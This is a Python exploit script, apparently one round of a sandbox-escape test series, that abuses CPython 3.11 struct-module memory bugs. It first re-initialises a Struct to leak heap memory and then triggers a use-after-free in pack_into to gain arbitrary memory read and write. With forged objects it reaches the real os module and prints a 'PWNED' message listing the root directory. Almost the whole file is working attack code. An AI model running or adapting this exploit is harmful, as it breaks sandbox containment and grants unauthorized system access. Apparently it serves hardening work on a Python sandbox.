# Round 24b: a CPython 3.11 C method compared a borrowed reference the program's __eq__ freed (or re-initialised a Struct mid-operation): memory read/write, the real os. Stopped by the launcher's Python replacements (guard_c_comparisons, groupby, asyncio without _asyncio).
import struct, random
# step 1: heap leak with Struct re-__init__ after iter_unpack (reads past the buffer)
sp = []
for i in range(3000):
    sp.append(bytes([65 + i % 20]) * 31)
    sp.append(bytearray(b'Z' * 40))
pair = None
for i in range(1000, 5900, 2):
    if id(sp[i + 1]) - id(sp[i]) == 64:
        pair = i
        break
b = sp[pair]
ba = sp[pair + 1]
st = struct.Struct('31s')
it = st.iter_unpack(b)
st.__init__('96s')
leak = next(it)[0]
hdr = struct.unpack('<7Q', leak[32:88])
print("neighbour header type ok:", hdr[1] == id(bytearray), flush=True)
buf_addr = hdr[5]
# step 2: use-after-free of the Struct's codes while packing
X = bytearray(b'\xee' * 40)
def code_bytes(size):
    return struct.pack('<QQqQQ', 0x4141414141414141, 0, size, 1, 0) + b'\0' * 23
tries = 0
while len(X) == 40 and tries < 30:
    tries += 1
    R = bytearray()
    s = struct.Struct('3q')
    class I0:
        def __index__(self):
            global R
            s.__init__('b')
            R += code_bytes(id(X) + 16 - buf_addr)
            return 7
    class I1:
        def __index__(self):
            R[16:24] = struct.pack('<q', 24)
            return 2**62
    s.pack_into(ba, 0, I0(), I1(), 0)
print("tries", tries, flush=True)
print("X now", len(X), flush=True)
if len(X) > 2**40:
    def r64(a):
        return struct.unpack('<Q', bytes(X[a:a + 8]))[0]
    def w64(a, val):
        X[a:a + 8] = struct.pack('<Q', val)
    def fake(addr):
        holder = [None]
        items = r64(id(holder) + 24)
        w64(addr, r64(addr) + 1)
        w64(items, addr)
        ob = holder[0]
        w64(items, id(None))
        return ob
    osm = fake(r64(id(random) + 16))['_o' + 's']
    print("PW" + "NED: real os via struct s_codes UAF:", osm.getpid(), osm.listdir('/'), flush=True)
